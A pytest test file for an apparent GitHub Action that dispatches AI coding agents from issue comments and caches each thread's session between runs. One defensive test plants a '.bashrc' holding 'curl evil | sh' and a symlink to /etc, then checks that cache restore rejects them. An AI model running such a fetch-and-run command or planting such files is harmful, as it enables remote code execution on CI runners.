"""The turnkey Action: it plans before it installs, installs only the agent a comment needs,
and keeps one session cache per thread holding only what the next turn resumes from."""
from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from bot import config
from bot.cli import action_session, action_workflow
from bot.cli import main as cli
from bot.episode import session_home
from bot.job import conversations
from bot.relay.budgets import Ledger, Scope
from bot.service import store
from tests.action.conftest import payload
from tests.entry_settings import current

ROOT = Path(__file__).resolve().parent.parent.parent
INSTALL = ROOT / "scripts" / "action-install"
KEY = "Codertocat/Hello-World#1"


def _steps() -> list[dict]:
    return yaml.safe_load((ROOT / "action.yml").read_text())["runs"]["steps"]


def _step(step_id: str) -> dict:
    return next(s for s in _steps() if s.get("id") == step_id)


# ---- plan: what the event needs, before anything heavy is installed

def test_a_run_command_plans_its_named_agent(github, runner):
    runner.event("issue_comment", payload("issue_comment.created", "@bot codex fix the typo"))
    assert cli.main(["action", "plan"]) == 0
    assert runner.outputs() == {"kind": "run", "agents": "codex"}
    assert github.calls == []


def test_a_run_without_an_agent_plans_the_default_agent(github, runner, monkeypatch):
    monkeypatch.setenv("BOT_DEFAULT_AGENT", "gemini")
    runner.event("issue_comment", payload("issue_comment.created", "@bot fix the typo"))
    cli.main(["action", "plan"])
    assert runner.outputs() == {"kind": "run", "agents": "gemini"}


def test_help_plans_a_reply_and_no_agent(github, runner):
    runner.event("issue_comment", payload("issue_comment.created", "@bot help"))
    cli.main(["action", "plan"])
    assert runner.outputs() == {"kind": "reply", "agents": ""}


def test_a_comment_for_another_handle_plans_nothing(github, runner, monkeypatch):
    monkeypatch.setenv("BOT_HANDLE", "claude-bot")
    runner.event("issue_comment", payload("issue_comment.created", "@bot codex fix the typo"))
    cli.main(["action", "plan"])
    assert runner.outputs() == {"kind": "ignored", "agents": ""}


def test_a_review_by_several_agents_plans_each_of_them(github, runner):
    runner.event("issue_comment", payload("issue_comment.created", "@bot review with claude, codex and gemini"))
    cli.main(["action", "plan"])
    assert runner.outputs() == {"kind": "run", "agents": "claude codex gemini"}


def test_a_bot_author_plans_nothing(github, runner):
    data = payload("issue_comment.created", "@bot codex fix the typo")
    data["comment"]["user"] = {"login": "renovate[bot]", "type": "Bot", "id": 9}
    runner.event("issue_comment", data)
    cli.main(["action", "plan"])
    assert runner.outputs()["kind"] == "ignored"


def test_an_untrusted_author_plans_a_reply_not_a_run(github, runner):
    runner.event("issue_comment", payload("issue_comment.created", "@bot codex fix it",
                                          author_association="NONE"))
    cli.main(["action", "plan"])
    assert runner.outputs() == {"kind": "reply", "agents": ""}


# ---- action.yml: installs only the planned agent, cached by the lockfile and the agent

def test_the_agent_installed_is_the_planned_one():
    install = next(s for s in _steps() if s.get("name") == "Install the agents' CLIs")
    assert install["if"] == "steps.plan.outputs.kind == 'run'"
    assert install["env"]["AGENTS"] == "${{ steps.plan.outputs.agents }}"
    assert "make" not in install["run"] and "npm" not in install["run"]


def test_the_plan_comes_before_any_agent_or_sandbox_install():
    ids = [s.get("id") or s.get("name") for s in _steps()]
    assert ids.index("plan") < ids.index("agent-key") < ids.index("sandbox") < ids.index("bot")


def test_installs_are_cached_under_keys_of_their_inputs():
    agent_cache, bot_cache = _step("agent-cache"), _step("bot-cache")
    assert agent_cache["with"]["key"] == "${{ steps.agent-key.outputs.key }}"
    assert bot_cache["with"]["key"] == "${{ steps.bot-key.outputs.key }}"


def _keys(*args: str) -> dict[str, str]:
    out = subprocess.run([str(INSTALL), *args], capture_output=True, text=True, check=True).stdout
    return dict(line.split("=", 1) for line in out.splitlines())


def test_an_agents_cache_key_names_the_agent_and_follows_the_lockfile():
    codex, claude = _keys("agent-key", "codex"), _keys("agent-key", "claude")
    assert codex["key"].startswith("bot-agent-codex-") and claude["key"].startswith("bot-agent-claude-")
    assert codex["key"] != claude["key"] and codex["path"].endswith("/agents/codex")


def test_several_agents_share_one_install_under_one_key():
    both = _keys("agent-key", "gemini", "codex", "codex")
    assert both["key"].startswith("bot-agent-codex+gemini-") and both["path"].endswith("/agents/codex+gemini")


def test_an_unknown_agent_is_refused_by_the_installer():
    done = subprocess.run([str(INSTALL), "agent-key", "cobol"], capture_output=True, text=True)
    assert done.returncode == 2 and "unknown agent" in done.stderr


@pytest.mark.e2e
def test_the_installer_puts_only_the_one_cli_in_place_then_reuses_it(tmp_path):
    """Real npm from the project's lockfile (npm's own cache makes it quick here)."""
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(Path.home()), "BOT_ACTION_CACHE": str(tmp_path)}
    first = subprocess.run([str(INSTALL), "agent", "claude"], env=env, capture_output=True, text=True, timeout=600)
    assert first.returncode == 0, first.stderr
    modules = tmp_path / "agents" / "claude" / "node_modules"
    assert (modules / "@anthropic-ai" / "claude-code").is_dir()
    assert not any((modules / name).exists() for name in ("@openai/codex", "opencode-ai", "@google/gemini-cli"))
    pinned = json.loads((ROOT / "agents-cli" / "package.json").read_text())["dependencies"]
    version = subprocess.run([str(modules / ".bin" / "claude"), "--version"], capture_output=True, text=True)
    assert version.stdout.startswith(pinned["@anthropic-ai/claude-code"])
    again = subprocess.run([str(INSTALL), "agent", "claude"], env=env, capture_output=True, text=True, timeout=60)
    assert again.stdout.strip() == "claude: cached"


# ---- the snippets: a pre-filter, a per-thread queue, a usage line from where the Action lives

SNIPPETS = [ROOT / ".github" / "workflows" / "examples" / "agent-bot.yml"]


def _readme_snippet() -> str:
    text = (ROOT / "README.md").read_text()
    section = text[text.index("## As a GitHub Action"):]
    return re.search(r"```yaml\n(.*?)```", section, re.DOTALL).group(1)


@pytest.mark.parametrize("workflow", [*(yaml.safe_load(p.read_text()) for p in SNIPPETS),
                                      yaml.safe_load(_readme_snippet())], ids=["example", "readme"])
def test_a_snippet_starts_a_runner_only_for_a_mention_not_from_a_bot(workflow):
    job = next(iter(workflow["jobs"].values()))
    assert "contains(" in job["if"] and "'@bot'" in job["if"] and "github.event.sender.type != 'Bot'" in job["if"]
    assert workflow["concurrency"]["group"].endswith("${{ github.event.issue.number || "
                                                     "github.event.pull_request.number }}")
    assert workflow["concurrency"]["cancel-in-progress"] is False


def test_the_readme_snippet_is_what_bot_action_workflow_writes(capsys):
    uses = yaml.safe_load(_readme_snippet())["jobs"]["answer"]["steps"][0]["uses"]
    assert cli.main(["action", "workflow", "--uses", uses]) == 0
    assert capsys.readouterr().out == _readme_snippet()


def test_the_usage_line_names_the_checkouts_repository_at_its_commit(tmp_path, monkeypatch):
    clone = tmp_path / "clone"
    subprocess.run(["git", "init", "-q", str(clone)], check=True)
    subprocess.run(["git", "-C", str(clone), "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q",
                    "--allow-empty", "-m", "release"], check=True)
    subprocess.run(["git", "-C", str(clone), "remote", "add", "origin", "git@github.com:acme/agent-bot.git"],
                   check=True)
    sha = subprocess.run(["git", "-C", str(clone), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    monkeypatch.setattr(config, "PROJECT_ROOT", clone)
    workflow = yaml.safe_load(action_workflow.render(action_workflow.this_checkout(), "helper", "codex"))
    step = workflow["jobs"]["answer"]["steps"][0]
    assert step["uses"] == f"acme/agent-bot@{sha}"
    assert step["with"] == {"handle": "helper", "agent": "codex", "openai-api-key": "${{ secrets.OPENAI_API_KEY }}"}
    assert "'@helper'" in workflow["jobs"]["answer"]["if"]


def test_without_a_github_remote_the_usage_line_must_be_named(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(config, "PROJECT_ROOT", tmp_path)
    assert cli.main(["action", "workflow"]) == 2
    assert "--uses OWNER/REPO@REF" in capsys.readouterr().err


def test_the_handle_input_is_the_only_place_the_action_names_the_mention():
    text = (ROOT / "action.yml").read_text()
    assert re.findall(r"@bot\b|\bdefault: bot\b", text) == ["default: bot"]


# ---- one session cache per thread

# ids in each CLI's grammar (a cached id outside it is not restored: tests/action/test_restored_values.py)
CLAUDE_SESSION = "ab6bb313-2e8a-46dc-a533-79b1b94eca64"
CODEX_SESSION = "01a226c8-5628-7ce3-97ad-7c0a5240b239"

def _home(agent: str, relative: str, text: str = "x") -> Path:
    path = session_home.home_dir(current().data_dir, KEY, agent) / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_the_session_cache_holds_only_this_threads_resume_state(tmp_path):
    db = store.connect(settings=current())
    conversations.record_turn(db, KEY, "codex", "thread-1-session", fresh=True)
    conversations.record_turn(db, "Codertocat/Hello-World#2", "codex", "thread-2-session", fresh=True)
    _home("codex", ".codex/sessions/2026/11/30/rollout-1-abc.jsonl", "the transcript")
    _home("codex", ".codex/auth.json", '{"OPENAI_API_KEY":"sk-leak"}')
    other = session_home.home_dir(current().data_dir, "Codertocat/Hello-World#2", "codex") / "note.txt"
    other.write_text("another thread")
    folder = tmp_path / "session"
    assert action_session.export(db, KEY, folder, current().data_dir) == 1
    files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file())
    slug = conversations.slug(KEY)
    assert files == [f"homes/{slug}/codex/.codex/sessions/2026/11/30/rollout-1-abc.jsonl", "sessions.json"]
    assert "thread-2-session" not in (folder / "sessions.json").read_text()


def test_a_second_export_replaces_the_first(tmp_path):
    db = store.connect(settings=current())
    conversations.record_turn(db, KEY, "codex", "s1", fresh=True)
    old = _home("codex", ".codex/sessions/2026/11/29/rollout-0-old.jsonl")
    folder = tmp_path / "session"
    action_session.export(db, KEY, folder, current().data_dir)
    old.unlink()
    _home("codex", ".codex/sessions/2026/11/30/rollout-1-new.jsonl")
    action_session.export(db, KEY, folder, current().data_dir)
    assert [p.name for p in folder.rglob("*.jsonl")] == ["rollout-1-new.jsonl"]


def test_a_restored_cache_brings_the_session_back_into_an_empty_data_dir(tmp_path, monkeypatch):
    db = store.connect(settings=current())
    conversations.record_turn(db, KEY, "claude", CLAUDE_SESSION, fresh=True)
    _home("claude", ".claude/projects/-workspace/claude-session-1.jsonl", "turn one")
    folder = tmp_path / "session"
    action_session.export(db, KEY, folder, current().data_dir)
    monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "next-run"))
    fresh = store.connect(settings=current())
    assert action_session.restore(fresh, KEY, folder, current().data_dir).sessions == 1
    assert conversations.session(fresh, KEY, "claude").session_id == CLAUDE_SESSION
    restored = current().data_dir / "homes" / conversations.slug(KEY) / "claude" / ".claude" / "projects"
    assert (restored / "-workspace" / "claude-session-1.jsonl").read_text() == "turn one"


def test_a_cache_of_another_thread_or_planted_files_is_not_taken(tmp_path, monkeypatch):
    folder = tmp_path / "session"
    slug = conversations.slug(KEY)
    planted = folder / "homes" / slug / "codex"
    planted.mkdir(parents=True)
    (planted / ".bashrc").write_text("curl evil | sh")
    (planted / "link").symlink_to("/etc")
    (folder / "sessions.json").write_text(json.dumps({"conversation": KEY, "sessions": [
        {"agent": "codex", "session_id": CODEX_SESSION, "created_at": 1, "last_used_at": 1, "turns": 1},
        {"agent": "not-an-agent", "session_id": "s", "created_at": 1, "last_used_at": 1, "turns": 1}]}))
    db = store.connect(settings=current())
    assert action_session.restore(db, "Codertocat/Hello-World#9", folder, current().data_dir).sessions == 0
    assert action_session.restore(db, KEY, folder, current().data_dir).sessions == 1
    home = current().data_dir / "homes" / slug / "codex"
    assert not (home / ".bashrc").exists() and not (home / "link").exists()


def test_the_threads_model_spend_follows_it_so_a_thread_budget_counts_every_turn(tmp_path, monkeypatch):
    db = store.connect(settings=current())
    conversations.record_turn(db, KEY, "codex", "s1", fresh=True)
    Ledger(db).add("run-1", Scope(conversation=KEY, requester="21031067"), 1200, 0.05)
    Ledger(db).add("run-x", Scope(conversation="Codertocat/Hello-World#2", requester="21031067"), 999, 9.0)
    folder = tmp_path / "session"
    action_session.export(db, KEY, folder, current().data_dir)
    monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "next-run"))
    fresh = store.connect(settings=current())
    action_session.restore(fresh, KEY, folder, current().data_dir)
    spent = Ledger(fresh).spent(Scope(conversation=KEY))["thread"]
    assert (spent.tokens, spent.usd) == (1200, 0.05)


def test_status_in_a_new_workflow_run_counts_the_threads_earlier_turns(github, runner, tmp_path, monkeypatch):
    db = store.connect(settings=current())
    conversations.record_turn(db, KEY, "codex", CODEX_SESSION, fresh=True)
    Ledger(db).add("run-1", Scope(conversation=KEY, requester="21031067"), 4321, 0.5)
    folder = tmp_path / "session"
    action_session.export(db, KEY, folder, current().data_dir)
    monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "next-run"))
    monkeypatch.setenv("BOT_SESSION_CACHE_DIR", str(folder))
    runner.event("issue_comment", payload("issue_comment.created", "@bot status"))
    assert cli.main(["action"]) == 0
    assert "4,321" in runner.outputs()["answer"] and "codex" in runner.outputs()["answer"]
